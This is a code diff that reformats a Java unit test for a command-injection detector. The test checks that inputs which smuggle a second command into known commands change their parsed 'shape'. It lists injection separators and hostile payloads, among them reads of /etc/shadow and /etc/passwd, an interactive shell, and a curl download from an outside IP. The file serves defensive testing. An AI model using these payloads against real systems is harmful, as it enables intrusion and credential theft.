@@ -31,12 +31,42 @@ class ShellShapeTest {
   @Test
   void everyInjectionIntoAKnownCommandChangesItsShape() {
     List<String> joints =
-        List.of(";%s", "; %s", "|%s", " | %s", "||%s", "&&%s", " && %s", "&%s", "\n%s", "\r\n%s", "$(%s)", " $(%s)",
-            "`%s`", " \"`%s`\"", "\"$(%s)\"", "';%s;'", "\";%s;\"", " ;(%s)", ";{ %s; }", " <(%s)", " >x;%s", "${IFS};%s",
-            " #\n%s", "|&%s", ";${IFS}%s");
+        List.of(
+            ";%s",
+            "; %s",
+            "|%s",
+            " | %s",
+            "||%s",
+            "&&%s",
+            " && %s",
+            "&%s",
+            "\n%s",
+            "\r\n%s",
+            "$(%s)",
+            " $(%s)",
+            "`%s`",
+            " \"`%s`\"",
+            "\"$(%s)\"",
+            "';%s;'",
+            "\";%s;\"",
+            " ;(%s)",
+            ";{ %s; }",
+            " <(%s)",
+            " >x;%s",
+            "${IFS};%s",
+            " #\n%s",
+            "|&%s",
+            ";${IFS}%s");
     List<String> commands =
-        List.of("id", "cat /etc/shadow", "cat${IFS}token", "curl http://203.0.113.66/x -o /tmp/x", "/bin/sh -i",
-            "bash -c 'id'", "a=id;$a", "{cat,/etc/passwd}");
+        List.of(
+            "id",
+            "cat /etc/shadow",
+            "cat${IFS}token",
+            "curl http://203.0.113.66/x -o /tmp/x",
+            "/bin/sh -i",
+            "bash -c 'id'",
+            "a=id;$a",
+            "{cat,/etc/passwd}");
     for (String known : List.of("/app/export.sh csv", "ping -c 4 10.0.0.1")) {
       String shape = ShellShape.of(known);
       List<String> unseen = new ArrayList<>();
@@ -56,7 +86,8 @@ class ShellShapeTest {
   @Test
   void ordinaryArgumentsDoNotChangeTheShape() {
     assertThat(ShellShape.of("/app/export.sh json")).isEqualTo(ShellShape.of("/app/export.sh csv"));
-    assertThat(ShellShape.of("ping  -c 9 10.9.9.9")).isEqualTo(ShellShape.of("ping -c 4 172.16.0.2"));
+    assertThat(ShellShape.of("ping  -c 9 10.9.9.9"))
+        .isEqualTo(ShellShape.of("ping -c 4 172.16.0.2"));
   }
 
   @Property(tries = 300)
